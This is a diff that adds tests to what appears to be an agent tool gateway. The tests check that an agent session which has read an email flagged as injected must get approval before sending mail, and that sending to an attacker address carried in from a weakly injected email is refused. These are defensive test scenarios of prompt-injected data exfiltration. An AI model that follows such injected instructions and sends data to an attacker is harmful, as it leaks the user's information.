@@ -157,3 +157,49 @@ async def test_gatehold_explain_shows_the_call_that_tainted_the_session(gw: Runn
     missing = subprocess.run([sys.executable, "-m", "gatehold", "explain", "--jsonl", str(gw.tmp / "audit.jsonl"),
                               "0000nosuchcall"], capture_output=True, text=True, timeout=60, check=False)
     assert missing.returncode == 1
+
+
+SUSPECT_FLOWS = [
+    {"id": "suspect-then-act", "from": ["suspect"], "to": ["external_sink", "destructive"], "effect": "ask"},
+    {"id": "suspect-values-out", "from": ["suspect"], "to": ["external_sink"], "effect": "deny", "match": "arguments"},
+]
+
+
+async def test_a_session_that_read_suspicious_output_asks_before_any_send(tmp_path: Path) -> None:
+    async with flow_gateway(tmp_path, flows=SUSPECT_FLOWS, flow={"provenance": "off"}) as gw, \
+            gw.client("legacy") as client:
+        await client.call_tool("up.read_email", {"id": "1"})  # no injection cue: the session stays clean
+        assert (await client.call_tool("up.send_email", {"to": "bob@corp.example", "body": "ok"})).content
+        withheld = await client.call_tool("up.read_email", {"id": "2"})
+        assert "withheld" in withheld.content[0].text
+        call = asyncio.ensure_future(client.call_tool("up.send_email", {"to": "bob@corp.example", "body": "noon"}))
+        request = await pending(gw)
+        assert request["rule_id"] == "flow.suspect-then-act"
+        assert "up.read_email" in request["reason"]
+        assert (await admin(gw, "POST", f"/admin/approvals/{request['id']}/approve", body={})).status_code == 200
+        assert (await asyncio.wait_for(call, 10)).content[0].text == "sent to bob@corp.example"
+    read = [r for r in decisions(gw, "up.read_email") if r["detail"]["found"].get("check_output.result")]
+    assert read[-1]["detail"]["found"]["check_output.result"]["suspect"] >= 0.6
+
+
+async def test_a_value_from_a_weak_injection_that_was_not_flagged_is_refused(tmp_path: Path) -> None:
+    async with flow_gateway(tmp_path, flows=SUSPECT_FLOWS, flow={"provenance": "off"}) as gw, \
+            gw.client("legacy") as client:
+        read = await client.call_tool("up.read_email", {"id": "4"})
+        assert ATTACKER in read.content[0].text  # below the detector's threshold: the agent reads it
+        with pytest.raises(MCPError) as info:
+            await client.call_tool("up.send_email", {"to": ATTACKER, "body": "the report"})
+    assert info.value.error.code == -32017
+    record = decisions(gw, "up.send_email")[-1]
+    assert record["rule_id"] == "flow.suspect-values-out"
+    assert record["detail"]["found"]["flow"]["values"][0] == {
+        "value": ATTACKER, "tool": "up.read_email", "correlation_id": record["detail"]["found"]["flow"][
+            "tainted_by"][0]["correlation_id"]}
+
+
+async def test_suspicion_can_be_turned_off(tmp_path: Path) -> None:
+    async with flow_gateway(tmp_path, flows=SUSPECT_FLOWS, flow={"provenance": "off", "suspect_score": None}) as gw, \
+            gw.client("legacy") as client:
+        await client.call_tool("up.read_email", {"id": "4"})
+        assert (await client.call_tool("up.send_email", {"to": ATTACKER, "body": "x"})).content[0].text == \
+            f"sent to {ATTACKER}"
